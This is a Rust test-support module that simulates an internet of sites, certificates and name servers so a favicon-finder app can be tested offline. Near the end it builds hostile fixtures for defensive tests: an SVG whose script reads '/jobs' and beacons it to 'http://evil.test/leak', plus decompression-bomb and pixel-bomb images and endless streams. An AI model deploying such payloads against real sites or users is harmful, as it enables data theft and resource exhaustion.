//! The tests' fake internet, for both test binaries: many sites behind one loopback port,
//! told apart by the Host header, over plain HTTP and HTTPS on the same port.
//!
//! The app reaches it through its `FETCH_RESOLVE` seam (`*=127.0.0.1:PORT`), so tests never
//! touch real DNS or the real network. Every request is counted per host and path, and per
//! scheme.
//!
//! HTTPS: a connection whose first byte is a TLS handshake record gets a certificate for the
//! name it asked for (SNI), issued by a test CA made once per test process
//! (tests/common/tls.rs). The app trusts that CA only when a test sets
//! `FETCH_EXTRA_ROOT_CERTS` to `ca_file()`; otherwise every https try fails with `tls` and the
//! finder falls back to http, as it does for a site without a certificate.
//!
//! The fault tests use [`Sites::every_host`]: every host answers its home page, so a job can
//! hold thousands of domains without a route per site.

#![allow(
    dead_code,
    reason = "each test binary uses a different part of this module"
)]

use crate::tls::TestCa;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use axum::response::Response;
use hyper_util::rt::TokioIo;
use rustls::server::{ClientHello, ResolvesServerCert};
use rustls::sign::CertifiedKey;
use std::collections::{HashMap, HashSet};
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

/// One canned response.
#[derive(Clone, Debug)]
pub struct Route {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
    pub delay: Duration,
}

impl Route {
    /// A response with a status, a content type and a body.
    pub fn new(status: u16, content_type: &str, body: impl Into<Vec<u8>>) -> Self {
        Self {
            status,
            headers: vec![("content-type".into(), content_type.into())],
            body: body.into(),
            delay: Duration::ZERO,
        }
    }

    /// A 200 HTML page.
    pub fn html(body: &str) -> Self {
        Self::new(200, "text/html; charset=utf-8", body)
    }

    /// A redirect to `location`.
    pub fn redirect(status: u16, location: &str) -> Self {
        Self {
            status,
            headers: vec![("location".into(), location.into())],
            body: Vec::new(),
            delay: Duration::ZERO,
        }
    }

    /// The same response with one more header.
    pub fn with_header(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.to_owned(), value.to_owned()));
        self
    }

    /// The same response, sent only after `delay`.
    pub fn with_delay(mut self, delay: Duration) -> Self {
        self.delay = delay;
        self
    }

    /// `body` gzip-compressed, with `Content-Encoding: gzip`.
    pub fn gzip(content_type: &str, body: &[u8]) -> Self {
        use std::io::Write;
        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        enc.write_all(body).unwrap();
        Self::new(200, content_type, enc.finish().unwrap()).with_header("content-encoding", "gzip")
    }

    /// `body` raw-deflate-compressed (no zlib header), with `Content-Encoding: deflate`: what
    /// some servers send for deflate.
    pub fn raw_deflate(content_type: &str, body: &[u8]) -> Self {
        use std::io::Write;
        let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
        enc.write_all(body).unwrap();
        Self::new(200, content_type, enc.finish().unwrap())
            .with_header("content-encoding", "deflate")
    }

    /// `body` zlib-compressed, with `Content-Encoding: deflate` (what HTTP calls deflate).
    pub fn deflate(content_type: &str, body: &[u8]) -> Self {
        use std::io::Write;
        let mut enc = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
        enc.write_all(body).unwrap();
        Self::new(200, content_type, enc.finish().unwrap())
            .with_header("content-encoding", "deflate")
    }
}

/// Bodies a canned response cannot express: what hostile or broken servers send.
#[derive(Clone, Debug)]
pub enum Stream {
    /// This chunk again and again, forever, as fast as the client reads.
    Endless(Vec<u8>),
    /// One byte per second, forever.
    Drip,
    /// `total` bytes of this chunk repeated, announced by `Content-Length`.
    Sized { chunk: Vec<u8>, total: u64 },
}

/// Sites by host, routes by path (the query string is ignored).
#[derive(Default, Clone)]
pub struct Sites {
    routes: HashMap<String, HashMap<String, Route>>,
    /// Routes served only to browser-like requests (`Sec-Fetch-Mode` present); anything else
    /// gets a 403 "Just a moment..." challenge, as bot walls answer.
    browser_only: HashMap<(String, String), Route>,
    /// Streamed bodies, by host and path, with their content type.
    streams: HashMap<(String, String), (String, Stream)>,
    /// Hosts whose plain-HTTP requests are dropped unanswered (a closed connection, what a
    /// client sees from a host with nothing on port 80).
    https_only: HashSet<String>,
    /// Hosts whose TLS certificate names another host (a name mismatch).
    wrong_certificate: HashSet<String>,
    /// When set, any host without a route answers `GET /` after this delay
    /// ([`Sites::every_host`]).
    every_host: Option<Duration>,
    /// Hosts answered with these exact bytes, whatever was asked ([`Sites::raw`]).
    raw: HashMap<String, Vec<u8>>,
}

impl Sites {
    /// Every host answers its home page after `delay`, so a job of thousands of domains needs
    /// no route per site. A host named `noicon…` serves a page without an icon (its domain
    /// ends `failed`); any other host a page whose icon is an inline SVG, so a domain costs
    /// one request. The icon's width is ten times the number of that home page's request
    /// (10 for the first fetch, 20 for the second…), so a test can tell *which* fetch's
    /// outcome was recorded.
    pub fn every_host(delay: Duration) -> Self {
        Self {
            every_host: Some(delay),
            ..Self::default()
        }
    }

    /// Serves `route` at `host` and `path`.
    pub fn route(&mut self, host: &str, path: &str, route: Route) -> &mut Self {
        self.routes
            .entry(host.to_owned())
            .or_default()
            .insert(path.to_owned(), route);
        self
    }

    /// A site whose home page is `html`.
    pub fn page(&mut self, host: &str, html: &str) -> &mut Self {
        self.route(host, "/", Route::html(html))
    }

    /// A site whose home page declares `/i.png`, a real 16×16 PNG.
    pub fn icon_site(&mut self, host: &str) -> &mut Self {
        self.slow_icon_site(host, Duration::ZERO)
    }

    /// [`Sites::icon_site`] whose home page is answered only after `delay`.
    pub fn slow_icon_site(&mut self, host: &str, delay: Duration) -> &mut Self {
        self.route(
            host,
            "/",
            Route::html("<link rel=icon href=/i.png>").with_delay(delay),
        )
        .file(host, "/i.png", "image/png", &png(16, 16))
    }

    /// A file served with a content type.
    pub fn file(&mut self, host: &str, path: &str, content_type: &str, body: &[u8]) -> &mut Self {
        self.route(host, path, Route::new(200, content_type, body))
    }

    /// `route` for browser-like requests, a 403 challenge page for the rest (a bot wall).
    pub fn browser_only(&mut self, host: &str, path: &str, route: Route) -> &mut Self {
        self.browser_only
            .insert((host.to_owned(), path.to_owned()), route);
        self
    }

    /// A streamed body (endless, dripping or huge) served with a content type.
    pub fn stream(
        &mut self,
        host: &str,
        path: &str,
        content_type: &str,
        stream: Stream,
    ) -> &mut Self {
        self.streams.insert(
            (host.to_owned(), path.to_owned()),
            (content_type.to_owned(), stream),
        );
        self
    }

    /// `host` answers over HTTPS only: a plain-HTTP request is counted, then its connection
    /// is closed without an answer.
    pub fn https_only(&mut self, host: &str) -> &mut Self {
        self.https_only.insert(host.to_owned());
        self
    }

    /// `host` answers every plain-HTTP request with exactly `bytes` and hangs up: answers no
    /// HTTP library would send (NUL bytes in the reason phrase or a header). A TLS handshake
    /// is hung up on, so a client falls back to plain HTTP. These hosts sit on a listener of
    /// their own, which [`FakeInternet::resolve`] points them at.
    pub fn raw(&mut self, host: &str, bytes: &[u8]) -> &mut Self {
        self.raw.insert(host.to_owned(), bytes.to_vec());
        self
    }

    /// `host`'s TLS certificate is issued for another name (valid CA, wrong name).
    pub fn wrong_certificate(&mut self, host: &str) -> &mut Self {
        self.wrong_certificate.insert(host.to_owned());
        self
    }

    /// Every host that has at least one route.
    pub fn hosts(&self) -> Vec<String> {
        let mut hosts: Vec<String> = self
            .routes
            .keys()
            .cloned()
            .chain(self.browser_only.keys().map(|(h, _)| h.clone()))
            .chain(self.streams.keys().map(|(h, _)| h.clone()))
            .collect();
        hosts.sort();
        hosts.dedup();
        hosts
    }
}

/// Requests per (host, path).
type Counts = HashMap<(String, String), usize>;

#[derive(Default)]
struct Shared {
    sites: Sites,
    /// Requests seen, any scheme, counted on arrival.
    hits: Mutex<Counts>,
    /// The subset of `hits` that came over HTTPS.
    https_hits: Mutex<Counts>,
    /// Answers sent (after any delay).
    answered: Mutex<Counts>,
    /// Per host: requests being handled now, and the most ever at once.
    active: Mutex<HashMap<String, (usize, usize)>>,
    /// Across every host (the fake internet is one address): in flight now, and the most ever.
    active_total: Mutex<(usize, usize)>,
}

/// Counts a request as in flight for its host until dropped.
struct InFlight {
    shared: Arc<Shared>,
    host: String,
}

impl InFlight {
    fn enter(shared: &Arc<Shared>, host: &str) -> Self {
        let mut active = shared.active.lock().unwrap();
        let entry = active.entry(host.to_owned()).or_default();
        entry.0 += 1;
        entry.1 = entry.1.max(entry.0);
        let mut total = shared.active_total.lock().unwrap();
        total.0 += 1;
        total.1 = total.1.max(total.0);
        Self {
            shared: shared.clone(),
            host: host.to_owned(),
        }
    }
}

impl Drop for InFlight {
    fn drop(&mut self) {
        if let Some(entry) = self.shared.active.lock().unwrap().get_mut(&self.host) {
            entry.0 -= 1;
        }
        self.shared.active_total.lock().unwrap().0 -= 1;
    }
}

/// The test process's CA: made once, since issuing it costs a key generation per test.
fn test_ca() -> Arc<TestCa> {
    static CA: OnceLock<Arc<TestCa>> = OnceLock::new();
    CA.get_or_init(|| Arc::new(TestCa::new("favicon-finder test CA")))
        .clone()
}

/// The certificate by SNI, or another name's for the hosts that must mismatch.
#[derive(Debug)]
struct Certificates {
    ca: Arc<TestCa>,
    wrong: HashSet<String>,
}

impl ResolvesServerCert for Certificates {
    fn resolve(&self, hello: ClientHello<'_>) -> Option<Arc<CertifiedKey>> {
        let name = hello.server_name()?;
        if self.wrong.contains(name) {
            self.ca.cert_for(&format!("not-{name}"))
        } else {
            self.ca.cert_for(name)
        }
    }
}

/// A running fake internet; it stops accepting connections when dropped.
pub struct FakeInternet {
    pub addr: SocketAddr,
    /// Where the [`Sites::raw`] hosts answer.
    raw_addr: SocketAddr,
    shared: Arc<Shared>,
    /// Holds `ca.pem`, the test CA a test hands the app to make HTTPS succeed.
    dir: tempfile::TempDir,
    servers: [tokio::task::JoinHandle<()>; 2],
}

impl FakeInternet {
    /// Serves `sites` on a fresh loopback port, over HTTP and HTTPS.
    pub async fn start(sites: Sites) -> Self {
        Self::start_at(sites, std::net::Ipv4Addr::LOCALHOST).await
    }

    /// [`FakeInternet::start`] on another loopback address (all of 127.0.0.0/8 is loopback):
    /// a server of its own as the finder's per-address politeness sees it, e.g. a CDN apart
    /// from the shared host of the sites that use it. [`FakeInternet::max_concurrent_total`]
    /// is then what that one address saw.
    pub async fn start_at(sites: Sites, ip: std::net::Ipv4Addr) -> Self {
        let ca = test_ca();
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("ca.pem"), ca.pem()).unwrap();
        let certificates = Arc::new(Certificates {
            ca,
            wrong: sites.wrong_certificate.clone(),
        });
        // Issued now rather than during the first handshake, so a test's timings never
        // include minting a certificate.
        for host in sites.hosts() {
            certificates.ca.cert_for(&host);
        }
        let tls = tokio_rustls::TlsAcceptor::from(Arc::new(TestCa::server_config(certificates)));
        let shared = Arc::new(Shared {
            sites,
            ..Shared::default()
        });
        let listener = tokio::net::TcpListener::bind((ip, 0)).await.unwrap();
        let addr = listener.local_addr().unwrap();
        let raw = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let raw_addr = raw.local_addr().unwrap();
        let servers = [
            tokio::spawn(accept(listener, shared.clone(), tls)),
            tokio::spawn(accept_raw(raw, shared.clone())),
        ];
        Self {
            addr,
            raw_addr,
            shared,
            dir,
            servers,
        }
    }

    /// The [`Sites::raw`] hosts' rules, ahead of any other.
    fn raw_rules(&self) -> impl Iterator<Item = String> + '_ {
        let mut hosts: Vec<&String> = self.shared.sites.raw.keys().collect();
        hosts.sort();
        hosts
            .into_iter()
            .map(|host| format!("{host}={}", self.raw_addr))
    }

    /// The test CA's certificate (PEM file): `FETCH_EXTRA_ROOT_CERTS` for a test whose app
    /// must trust this fake internet's HTTPS.
    pub fn ca_file(&self) -> PathBuf {
        self.dir.path().join("ca.pem")
    }

    /// `FETCH_RESOLVE` pointing every host here, after any `extra` host-specific rules.
    pub fn resolve(&self, extra: &[(&str, SocketAddr)]) -> String {
        let mut rules: Vec<String> = extra.iter().map(|(h, a)| format!("{h}={a}")).collect();
        rules.extend(self.raw_rules());
        rules.push(format!("*={}", self.addr));
        rules.join(",")
    }

    /// `FETCH_RESOLVE` naming each host of the sites (and `extra`), without a wildcard: any
    /// other name gets the finder's "does not resolve" answer (`.test` never reaches DNS).
    pub fn resolve_exact(&self, extra: &[(&str, SocketAddr)]) -> String {
        let mut rules: Vec<String> = extra.iter().map(|(h, a)| format!("{h}={a}")).collect();
        rules.extend(self.raw_rules());
        for host in self.shared.sites.hosts() {
            if !extra.iter().any(|(h, _)| *h == host) {
                rules.push(format!("{host}={}", self.addr));
            }
        }
        rules.join(",")
    }

    /// Requests seen for `host` and `path`, over either scheme.
    pub fn hits(&self, host: &str, path: &str) -> usize {
        count(&self.shared.hits, host, path)
    }

    /// Requests for `host` and `path` that came over HTTPS.
    pub fn https_hits(&self, host: &str, path: &str) -> usize {
        count(&self.shared.https_hits, host, path)
    }

    /// Answers sent for `host` and `path` (after any delay).
    pub fn answered(&self, host: &str, path: &str) -> usize {
        count(&self.shared.answered, host, path)
    }

    /// Home-page (`GET /`) requests that arrived, per host.
    pub fn arrived(&self) -> HashMap<String, usize> {
        self.shared
            .hits
            .lock()
            .unwrap()
            .iter()
            .filter(|((_, path), _)| path == "/")
            .map(|((host, _), n)| (host.clone(), *n))
            .collect()
    }

    /// The most requests to `host` the fake internet was handling at once.
    pub fn max_concurrent(&self, host: &str) -> usize {
        self.shared
            .active
            .lock()
            .unwrap()
            .get(host)
            .map_or(0, |(_, max)| *max)
    }

    /// The most requests in flight at once across every host.
    pub fn max_concurrent_total(&self) -> usize {
        self.shared.active_total.lock().unwrap().1
    }

    /// Requests seen for `host`, any path.
    pub fn host_hits(&self, host: &str) -> usize {
        self.shared
            .hits
            .lock()
            .unwrap()
            .iter()
            .filter(|((h, _), _)| h == host)
            .map(|(_, n)| n)
            .sum()
    }
}

impl Drop for FakeInternet {
    fn drop(&mut self) {
        for server in &self.servers {
            server.abort();
        }
    }
}

fn count(counts: &Mutex<Counts>, host: &str, path: &str) -> usize {
    counts
        .lock()
        .unwrap()
        .get(&(host.to_owned(), path.to_owned()))
        .copied()
        .unwrap_or(0)
}

async fn accept(
    listener: tokio::net::TcpListener,
    shared: Arc<Shared>,
    tls: tokio_rustls::TlsAcceptor,
) {
    loop {
        match listener.accept().await {
            Ok((stream, _)) => {
                tokio::spawn(connection(stream, shared.clone(), tls.clone()));
            }
            // Out of descriptors, say: let the clients' own timeouts speak rather than spin.
            Err(_) => tokio::time::sleep(Duration::from_millis(5)).await,
        }
    }
}

/// The [`Sites::raw`] listener: reads a request head, counts it, writes the host's bytes and
/// hangs up; a TLS handshake gets nothing.
async fn accept_raw(listener: tokio::net::TcpListener, shared: Arc<Shared>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    while let Ok((mut stream, _)) = listener.accept().await {
        let shared = shared.clone();
        tokio::spawn(async move {
            let mut head = Vec::new();
            let mut buf = [0u8; 4096];
            while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 65_536 {
                match stream.read(&mut buf).await {
                    Ok(n) if n > 0 && buf[0] != 0x16 => head.extend_from_slice(&buf[..n]),
                    _ => return,
                }
            }
            let head = String::from_utf8_lossy(&head);
            let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let host = head
                .lines()
                .find_map(|l| {
                    let (name, value) = l.split_once(':')?;
                    name.eq_ignore_ascii_case("host").then(|| value.trim())
                })
                .unwrap_or("")
                .split(':')
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            *shared
                .hits
                .lock()
                .unwrap()
                .entry((host.clone(), path))
                .or_default() += 1;
            if let Some(bytes) = shared.sites.raw.get(&host) {
                let _ = stream.write_all(bytes).await;
            }
        });
    }
}

/// One connection: TLS when it opens with a handshake record (0x16; no HTTP method starts
/// with that byte), plain HTTP/1.1 otherwise.
async fn connection(
    stream: tokio::net::TcpStream,
    shared: Arc<Shared>,
    tls: tokio_rustls::TlsAcceptor,
) {
    let mut first = [0u8; 1];
    if !matches!(stream.peek(&mut first).await, Ok(1)) {
        return;
    }
    if first[0] == 0x16 {
        // A client that does not trust the certificate ends the handshake here.
        if let Ok(stream) = tls.accept(stream).await {
            http1(TokioIo::new(stream), shared, true).await;
        }
    } else {
        http1(TokioIo::new(stream), shared, false).await;
    }
}

async fn http1<I>(io: I, shared: Arc<Shared>, https: bool)
where
    I: hyper::rt::Read + hyper::rt::Write + Unpin + Send + 'static,
{
    let service = hyper::service::service_fn(move |request| serve(shared.clone(), https, request));
    let _ = hyper::server::conn::http1::Builder::new()
        .serve_connection(io, service)
        .await;
}

/// Why a request got no answer: hyper closes the connection when the service fails.
#[derive(Debug)]
struct Unanswered;

impl std::fmt::Display for Unanswered {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("plain HTTP to an https-only host")
    }
}

impl std::error::Error for Unanswered {}

async fn serve<B>(
    shared: Arc<Shared>,
    https: bool,
    request: Request<B>,
) -> Result<Response, Unanswered> {
    let headers = request.headers();
    let host = headers
        .get(header::HOST)
        .and_then(|h| h.to_str().ok())
        .unwrap_or("")
        .split(':')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    let path = request.uri().path().to_owned();
    let key = (host.clone(), path.clone());
    let nth = {
        let mut hits = shared.hits.lock().unwrap();
        let n = hits.entry(key.clone()).or_default();
        *n += 1;
        *n
    };
    if https {
        *shared
            .https_hits
            .lock()
            .unwrap()
            .entry(key.clone())
            .or_default() += 1;
    } else if shared.sites.https_only.contains(&host) {
        return Err(Unanswered);
    }
    let _in_flight = InFlight::enter(&shared, &host);
    if let Some((content_type, stream)) = shared.sites.streams.get(&key) {
        return Ok(streamed(content_type, stream.clone()));
    }
    let browser_like = headers.contains_key("sec-fetch-mode");
    if shared.sites.browser_only.contains_key(&key) && !browser_like {
        return Ok(Response::builder()
            .status(StatusCode::FORBIDDEN)
            .header("content-type", "text/html")
            .body(Body::from(
                "<html><head><title>Just a moment...</title></head><body>Checking your browser</body></html>",
            ))
            .unwrap());
    }
    let route = shared
        .sites
        .browser_only
        .get(&key)
        .or_else(|| {
            shared
                .sites
                .routes
                .get(&host)
                .and_then(|site| site.get(&path))
        })
        .cloned()
        .or_else(|| {
            let delay = shared.sites.every_host?;
            (path == "/").then(|| any_home_page(&host, nth).with_delay(delay))
        });
    let Some(route) = route else {
        return Ok(Response::builder()
            .status(StatusCode::NOT_FOUND)
            .header("content-type", "text/html")
            .body(Body::from("<html><body>Not found</body></html>"))
            .unwrap());
    };
    if !route.delay.is_zero() {
        // A slow site is the scenario: the client under test meets the delay on a real socket.
        tokio::time::sleep(route.delay).await;
    }
    *shared.answered.lock().unwrap().entry(key).or_default() += 1;
    let mut response = Response::builder().status(route.status);
    for (k, v) in &route.headers {
        response = response.header(k, v);
    }
    Ok(response.body(Body::from(route.body)).unwrap())
}

/// The home page of [`Sites::every_host`]: no icon for `noicon…` hosts, else an inline SVG
/// icon `10 × nth` pixels wide.
fn any_home_page(host: &str, nth: usize) -> Route {
    if host.starts_with("noicon") {
        return Route::html("<html><head><title>no icon here</title></head></html>");
    }
    let w = 10 * nth;
    Route::html(&format!(
        "<html><head><link rel=icon href=\"data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20width='{w}'%20height='{w}'%3E%3C/svg%3E\"></head></html>"
    ))
}

fn streamed(content_type: &str, stream: Stream) -> Response {
    use futures::StreamExt;
    let mut response = Response::builder()
        .status(StatusCode::OK)
        .header("content-type", content_type);
    let body = match stream {
        Stream::Endless(chunk) => {
            let chunk = bytes::Bytes::from(chunk);
            Body::from_stream(futures::stream::repeat_with(move || {
                Ok::<_, std::io::Error>(chunk.clone())
            }))
        }
        Stream::Drip => Body::from_stream(futures::stream::unfold((), |()| async {
            // A byte a second is the scenario: a server slow enough to meet the client's
            // deadlines on a real socket.
            tokio::time::sleep(Duration::from_secs(1)).await;
            Some((Ok::<_, std::io::Error>(bytes::Bytes::from_static(b" ")), ()))
        })),
        Stream::Sized { chunk, total } => {
            response = response.header("content-length", total.to_string());
            let chunk = bytes::Bytes::from(chunk);
            let body = futures::stream::unfold(0u64, move |sent| {
                let chunk = chunk.clone();
                async move {
                    (sent < total).then(|| {
                        let n = (total - sent).min(chunk.len() as u64);
                        (Ok::<_, std::io::Error>(chunk.slice(..n as usize)), sent + n)
                    })
                }
            });
            Body::from_stream(body.boxed())
        }
    };
    response.body(body).unwrap()
}

/// A name server of the fake internet, on loopback, counting the queries it reads.
pub struct NameServer {
    pub addr: SocketAddr,
    queries: Arc<std::sync::atomic::AtomicUsize>,
}

impl NameServer {
    /// Reads every query and never answers, over UDP or TCP (its TCP connections are held
    /// open and silent), so neither of a resolver's transports gets a reply.
    pub async fn silent() -> Self {
        let tcp = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = tcp.local_addr().unwrap();
        let udp = tokio::net::UdpSocket::bind(addr).await.unwrap();
        let queries = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let seen = queries.clone();
        tokio::spawn(async move {
            let mut buf = [0u8; 1500];
            while udp.recv_from(&mut buf).await.is_ok() {
                seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            }
        });
        tokio::spawn(async move {
            let mut held = Vec::new();
            while let Ok((sock, _)) = tcp.accept().await {
                held.push(sock);
            }
        });
        Self { addr, queries }
    }

    /// Answers every A query with 127.0.0.1 (and any other with an empty NOERROR), as a
    /// hostile or misconfigured zone would.
    pub async fn loopback() -> Self {
        use hickory_resolver::proto::op::{Message, MessageType};
        use hickory_resolver::proto::rr::{RData, Record, RecordType, rdata::A};
        let udp = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let addr = udp.local_addr().unwrap();
        let queries = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let seen = queries.clone();
        tokio::spawn(async move {
            let mut buf = [0u8; 1500];
            while let Ok((n, from)) = udp.recv_from(&mut buf).await {
                seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let Ok(query) = Message::from_vec(&buf[..n]) else {
                    continue;
                };
                let mut answer = Message::new();
                answer
                    .set_id(query.id())
                    .set_message_type(MessageType::Response)
                    .set_op_code(query.op_code())
                    .set_recursion_desired(query.recursion_desired())
                    .set_recursion_available(true);
                for q in query.queries() {
                    answer.add_query(q.clone());
                    if q.query_type() == RecordType::A {
                        answer.add_answer(Record::from_rdata(
                            q.name().clone(),
                            60,
                            RData::A(A(std::net::Ipv4Addr::LOCALHOST)),
                        ));
                    }
                }
                let _ = udp.send_to(&answer.to_vec().unwrap(), from).await;
            }
        });
        Self { addr, queries }
    }

    /// Queries read so far.
    pub fn queries(&self) -> usize {
        self.queries.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// A loopback address that refuses every connection, for as long as the test process lives.
///
/// A socket is bound to it and never listens: the kernel answers a connection attempt with a
/// reset (connection refused), and since the port stays bound no other test can be handed it
/// and start answering. (Binding a listener, dropping it and reusing its number is a race.)
pub async fn dead_addr() -> SocketAddr {
    static REFUSING: OnceLock<(tokio::net::TcpSocket, SocketAddr)> = OnceLock::new();
    REFUSING
        .get_or_init(|| {
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket.bind(SocketAddr::from(([127, 0, 0, 1], 0))).unwrap();
            let addr = socket.local_addr().unwrap();
            (socket, addr)
        })
        .1
}

/// A real, decodable RGBA PNG of `width`×`height` (stored deflate blocks, so no compressor
/// is needed).
pub fn png(width: u32, height: u32) -> Vec<u8> {
    // Each scanline: filter byte 0 (none), then RGBA pixels.
    let mut row = vec![0u8];
    for x in 0..width {
        row.extend_from_slice(&[(x * 7) as u8, 0x80, 0x40, 0xff]);
    }
    let raw = row.repeat(height as usize);
    // zlib stream of stored blocks.
    let mut z = vec![0x78, 0x01];
    let blocks: Vec<&[u8]> = raw.chunks(65_535).collect();
    for (i, block) in blocks.iter().enumerate() {
        z.push(u8::from(i + 1 == blocks.len()));
        let len = block.len() as u16;
        z.extend_from_slice(&len.to_le_bytes());
        z.extend_from_slice(&(!len).to_le_bytes());
        z.extend_from_slice(block);
    }
    z.extend_from_slice(&adler32(&raw).to_be_bytes());
    png_of(width, height, 6, &z)
}

/// An ICO file holding PNG entries of the given sizes (256 is written as width byte 0).
pub fn ico(sizes: &[u32]) -> Vec<u8> {
    let images: Vec<Vec<u8>> = sizes.iter().map(|s| png(*s, *s)).collect();
    let mut out = vec![0, 0, 1, 0];
    out.extend_from_slice(&(sizes.len() as u16).to_le_bytes());
    let mut offset = 6 + 16 * sizes.len() as u32;
    for (size, image) in sizes.iter().zip(&images) {
        let byte = if *size >= 256 { 0 } else { *size as u8 };
        out.extend_from_slice(&[byte, byte, 0, 0, 1, 0, 32, 0]);
        out.extend_from_slice(&(image.len() as u32).to_le_bytes());
        out.extend_from_slice(&offset.to_le_bytes());
        offset += image.len() as u32;
    }
    for image in images {
        out.extend_from_slice(&image);
    }
    out
}

/// A PNG whose header claims `width`×`height` but whose pixels are a single empty block: what
/// a pixel bomb looks like to a sniffer (valid chunks, absurd dimensions).
pub fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    png_of(
        width,
        height,
        6,
        &[0x78, 0x01, 0x01, 0x00, 0x00, 0xff, 0xff, 0, 0, 0, 1],
    )
}

/// Appends one PNG chunk: length, kind, data, CRC.
fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    let mut crc_input = kind.to_vec();
    crc_input.extend_from_slice(data);
    out.extend_from_slice(&crc_input);
    out.extend_from_slice(&crc32(&crc_input).to_be_bytes());
}

/// A PNG file from its parts: the IHDR of `width`×`height` in 8-bit `colour_type`, one IDAT
/// chunk holding `idat` as it is, and IEND; every chunk with its CRC.
fn png_of(width: u32, height: u32, colour_type: u8, idat: &[u8]) -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, colour_type, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", idat);
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A GIF89a of `width`×`height` (header, a global colour table, one tiny image block).
pub fn gif(width: u16, height: u16) -> Vec<u8> {
    let mut out = b"GIF89a".to_vec();
    out.extend_from_slice(&width.to_le_bytes());
    out.extend_from_slice(&height.to_le_bytes());
    out.extend_from_slice(&[0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]);
    out.extend_from_slice(b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;");
    out
}

/// A lossless WebP (VP8L) header of `width`×`height`.
pub fn webp(width: u32, height: u32) -> Vec<u8> {
    let bits = (width - 1) | ((height - 1) << 14);
    let mut vp8l = vec![0x2f];
    vp8l.extend_from_slice(&bits.to_le_bytes());
    vp8l.extend_from_slice(&[0; 11]);
    let mut out = b"RIFF".to_vec();
    out.extend_from_slice(&((4 + 8 + vp8l.len()) as u32).to_le_bytes());
    out.extend_from_slice(b"WEBPVP8L");
    out.extend_from_slice(&(vp8l.len() as u32).to_le_bytes());
    out.extend_from_slice(&vp8l);
    out
}

/// A small SVG icon.
pub fn svg() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><circle cx="32" cy="32" r="30"/></svg>"#.to_vec()
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &byte in data {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn adler32(data: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for &byte in data {
        a = (a + u32::from(byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    (b << 16) | a
}

/// An SVG icon with what a hostile site puts in one: a script, an event handler, and
/// references to other hosts (an image, a `<use>`, a stylesheet import, a `foreignObject`
/// iframe). Its declared size is ordinary, so the finder stores it.
pub fn hostile_svg() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64" onload="alert(1)">
<script>fetch('/jobs').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.test/leak', t))</script>
<style>@import url(http://evil.test/style.css);</style>
<image href="http://evil.test/pixel.png" xlink:href="http://evil.test/pixel.png" width="64" height="64"/>
<use href="http://evil.test/defs.svg#shape" xlink:href="http://evil.test/defs.svg#shape"/>
<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/frame"></iframe></foreignObject>
<circle cx="32" cy="32" r="30" fill="green"/>
</svg>"#
        .to_vec()
}

/// An SVG that declares an enormous canvas (a rasteriser that trusted it would allocate
/// terabytes).
pub fn huge_svg() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" width="100000000" height="100000000"><circle cx="50000000" cy="50000000" r="40000000"/></svg>"#.to_vec()
}

/// A decompression bomb: a real, valid 8000×8000 greyscale PNG of zeros, a few dozen KB
/// compressed and 64 MB decoded.
pub fn bomb_png() -> Vec<u8> {
    use std::io::Write;
    let (width, height) = (8000u32, 8000u32);
    let row = vec![0u8; 1 + width as usize];
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..height {
        z.write_all(&row).unwrap();
    }
    let data = z.finish().unwrap();
    png_of(width, height, 0, &data)
}
